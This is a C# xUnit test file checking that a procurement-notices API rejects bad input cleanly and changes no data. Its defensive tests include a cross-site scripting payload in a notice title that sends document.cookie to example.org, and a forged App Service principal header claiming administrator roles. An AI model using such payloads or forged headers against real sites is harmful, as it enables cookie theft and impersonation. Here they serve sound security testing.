using System.Net;
using System.Text.Json;
using NoticeFunctions.Tests.Support;
using Notices.Domain.Notices;
using Notices.Testing;
using Xunit;

namespace NoticeFunctions.Tests;

/// <summary>Each way a request can be wrong gets a clear 4xx naming what to fix, and changes nothing.</summary>
public sealed class ApiBadInputTests(AzuriteFixture azurite) : IClassFixture<AzuriteFixture>, IAsyncLifetime
{
    private readonly HashSet<string> _registered = new(StringComparer.Ordinal);
    private TestApp _app = null!;
    private Support.WebClient _commissioner = null!;

    public async Task InitializeAsync()
    {
        _app = await TestApp.StartAsync(azurite: azurite.Process);
        _commissioner = await _app.SignInAsync("ada.lovelace");
    }

    public async Task DisposeAsync()
    {
        _commissioner.Dispose();
        await _app.DisposeAsync();
    }

    [Fact]
    public async Task Register_MalformedJson_Is400NamingTheBodyAndRegistersNothing()
    {
        using var response = await _commissioner.PostJsonAsync("/api/procurements", """{"buyerId": "GB-PPON-X", "title": """);

        await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        await AssertNothingRegisteredAsync();
    }

    [Fact]
    public async Task Register_WrongTypeForAField_Is400NamingThatField()
    {
        using var response = await _commissioner.PostJsonAsync("/api/procurements", """{"buyerId": "GB-PPON-X", "estimatedValue": "lots"}""");

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.True(problem.GetProperty("errors").TryGetProperty("estimatedValue", out _), problem.ToString());
    }

    [Fact]
    public async Task Register_MissingFields_Is400NamingEachField()
    {
        using var response = await _commissioner.PostJsonAsync("/api/procurements", """{"buyerId": "GB-PPON-X"}""");

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        var errors = problem.GetProperty("errors");
        foreach (var field in new[] { "buyerName", "title", "estimatedValue", "procedure", "nature" })
        {
            Assert.True(errors.TryGetProperty(field, out _), $"no error for {field}: {problem}");
        }

        await AssertNothingRegisteredAsync();
    }

    [Fact]
    public async Task Register_FormEncodedBody_Is415()
    {
        using var response = await _commissioner.Http.PostAsync(
            new Uri("/api/procurements", UriKind.Relative),
            new FormUrlEncodedContent([new("title", "x")]));

        await AssertProblemAsync(response, HttpStatusCode.UnsupportedMediaType);
        await AssertNothingRegisteredAsync();
    }

    [Fact]
    public async Task Register_OversizedBody_Is413()
    {
        var body = ApiJourney.RegisterBody(new string('x', 300 * 1024));

        using var response = await _commissioner.PostJsonAsync("/api/procurements", body);

        await AssertProblemAsync(response, HttpStatusCode.RequestEntityTooLarge);
        await AssertNothingRegisteredAsync();
    }

    [Fact]
    public async Task Procurement_UnknownId_Is404ProblemDetails()
    {
        using var get = await _commissioner.GetAsync("/api/procurements/no-such-procurement");
        using var draft = await _commissioner.PostJsonAsync("/api/procurements/no-such-procurement/notices", ApiJourney.DraftBody(Notices.Domain.Notices.NoticeType.UK4));

        await AssertProblemAsync(get, HttpStatusCode.NotFound);
        await AssertProblemAsync(draft, HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Register_ScriptInTitle_IsKeptAsTextAndServedEscapedAsJson()
    {
        const string title = "<script>alert('x')</script>";
        var id = await RegisterAsync(_commissioner, title);

        using var response = await _commissioner.GetAsync($"/api/procurements/{id}");
        var raw = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/json", response.Content.Headers.ContentType!.MediaType);
        Assert.Equal("nosniff", string.Join(",", response.Headers.GetValues("X-Content-Type-Options")));
        Assert.DoesNotContain("<script", raw, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("'x'", raw, StringComparison.Ordinal);
        using var document = JsonDocument.Parse(raw);
        Assert.Equal(title, document.RootElement.GetProperty("details").GetProperty("title").GetString());
    }

    [Fact]
    public async Task Register_UnknownField_Is400NamingThatField()
    {
        using var response = await _commissioner.PostJsonAsync("/api/procurements", ApiJourney.RegisterBody().Replace("\"title\"", "\"titel\"", StringComparison.Ordinal));

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Contains("titel", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        await AssertNothingRegisteredAsync();
    }

    [Fact]
    public async Task Draft_MalformedJson_Is400AndTheProcurementIsUnchanged()
    {
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK4","content":{"title": }""");

        await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Draft_PlainTextBody_Is415AndTheProcurementIsUnchanged()
    {
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", ApiJourney.DraftBody(NoticeType.UK4), "text/plain");

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnsupportedMediaType);
        Assert.Contains("application/json", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Draft_OversizedBody_Is413AndTheProcurementIsUnchanged()
    {
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);
        var huge = "{\"type\":\"UK4\",\"content\":{\"title\":\"" + new string('x', 400 * 1024) + "\"}}";

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", huge);

        await AssertProblemAsync(response, HttpStatusCode.RequestEntityTooLarge);
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Draft_UnknownNoticeType_Is400NamingTheType()
    {
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices", """{"type":"UK99","content":{}}""");

        var problem = await AssertProblemAsync(response, HttpStatusCode.BadRequest);
        Assert.True(problem.GetProperty("errors").TryGetProperty("type", out _), problem.ToString());
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Submit_NoticeMissingItsTitle_Is422NamingTheFieldAndStaysADraft()
    {
        var id = await RegisterAsync(_commissioner);
        var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = null });
        var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
        var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
        var before = await TimelineAsync(id);

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices/{key}/submission", "{}");

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity);
        Assert.True(problem.GetProperty("errors").TryGetProperty("title", out _), problem.ToString());
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Submit_SparseNotice_Is422NamingMissingFieldsAndStaysADraft()
    {
        var id = await RegisterAsync(_commissioner);
        var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", """{"type":"UK4","content":{"noticeType":"UK4","title":"Cleaning","buyer":{"name":"Westshire County Council","address":{"locality":"Westbury"}}}}""");
        var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();
        var before = await TimelineAsync(id);

        using var response = await _commissioner.PostJsonAsync($"/api/procurements/{id}/notices/{key}/submission", "{}");

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity);
        Assert.True(problem.GetProperty("errors").TryGetProperty("description", out _), problem.ToString());
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Award_MissingAndImpossibleValues_Is400NamingEachField()
    {
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);

        using var missing = await _commissioner.PostJsonAsync($"/api/procurements/{id}/award", """{"suppliers":[{"name":"Green Bins Limited"}]}""");
        using var impossible = await _commissioner.PostJsonAsync($"/api/procurements/{id}/award", """{"suppliers":[],"value":1,"decidedOn":"2025-13-45"}""");

        var errors = (await AssertProblemAsync(missing, HttpStatusCode.BadRequest)).GetProperty("errors");
        foreach (var field in new[] { "suppliers[0].identifier", "value", "decidedOn" })
        {
            Assert.True(errors.TryGetProperty(field, out _), $"no error for {field}: {errors}");
        }

        var date = await AssertProblemAsync(impossible, HttpStatusCode.BadRequest);
        Assert.True(date.GetProperty("errors").TryGetProperty("decidedOn", out _), date.ToString());
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Approval_UnknownNotice_IsRefusedNamingTheNoticeAndChangesNothing()
    {
        using var approver = await _app.SignInAsync("grace.hopper");
        var id = await RegisterAsync(_commissioner);
        var before = await TimelineAsync(id);

        using var response = await ApiJourney.ApproveAsync(approver, id, "uk4-9");

        var problem = await AssertProblemAsync(response, HttpStatusCode.UnprocessableEntity);
        Assert.Contains("uk4-9", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
        Assert.Equal(before, await TimelineAsync(id));
    }

    [Fact]
    public async Task Draft_ScriptInANoticeTitle_IsKeptAsTextAndServedEscaped()
    {
        const string title = "Bins <script>document.location='https://example.org/'+document.cookie</script>";
        var id = await RegisterAsync(_commissioner);
        var content = NoticeJson.Serialize(Notices.Testing.Notices.SampleNotices.All.Single(n => n.Type == NoticeType.UK4) with { Title = title });
        var drafted = await ApiJourney.MustAsync(_commissioner, $"/api/procurements/{id}/notices", $$"""{"type":"UK4","content":{{content}}}""");
        var key = drafted.GetProperty("events")[0].GetProperty("noticeKey").GetString();

        using var response = await _commissioner.GetAsync($"/api/procurements/{id}/notices/{key}");
        var raw = await response.Content.ReadAsStringAsync();

        Assert.Equal("application/json", response.Content.Headers.ContentType!.MediaType);
        Assert.DoesNotContain("<script", raw, StringComparison.OrdinalIgnoreCase);
        using var notice = JsonDocument.Parse(raw);
        Assert.Equal(title, notice.RootElement.GetProperty("content").GetProperty("title").GetString());
    }

    [Fact]
    public async Task Register_ForgedPrincipalHeaderNotBehindAppServiceAuthentication_Is401AndRegistersNothing()
    {
        using var anonymous = _app.Client();
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/procurements")
        {
            Content = new StringContent(ApiJourney.RegisterBody(), System.Text.Encoding.UTF8, "application/json"),
        };
        request.Headers.Add("X-MS-CLIENT-PRINCIPAL", SignInTests.Principal("Mallory", "Commissioner", "Administrator"));
        request.Headers.Add("X-MS-CLIENT-PRINCIPAL-ID", "mallory");

        using var response = await anonymous.Http.SendAsync(request);

        await AssertProblemAsync(response, HttpStatusCode.Unauthorized);
        await AssertNothingRegisteredAsync();
    }

    private Task<string> TimelineAsync(string id) => _commissioner.GetPageAsync($"/api/procurements/{id}/timeline");

    /// <summary>Registers a procurement on purpose, remembering it, so that only others count as registered by mistake.</summary>
    private async Task<string> RegisterAsync(Support.WebClient commissioner, string title = "Waste collection services")
    {
        var id = await ApiJourney.RegisterAsync(commissioner, title);
        _registered.Add(id);
        return id;
    }

    /// <summary>The authority's list (the one buyer this deployment keeps) holds only what the tests registered on purpose.</summary>
    private async Task AssertNothingRegisteredAsync()
    {
        var list = await _commissioner.GetPageAsync($"/api/procurements?buyerId={ApiJourney.BuyerId}");
        using var page = JsonDocument.Parse(list);
        Assert.All(page.RootElement.GetProperty("items").EnumerateArray(), p => Assert.Contains(p.GetProperty("procurementId").GetString()!, _registered));
    }

    private static async Task<JsonElement> AssertProblemAsync(HttpResponseMessage response, HttpStatusCode status)
    {
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == status, $"expected {status}, got {response.StatusCode}: {text}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var document = JsonDocument.Parse(text);
        Assert.Equal((int)status, document.RootElement.GetProperty("status").GetInt32());
        return document.RootElement.Clone();
    }
}
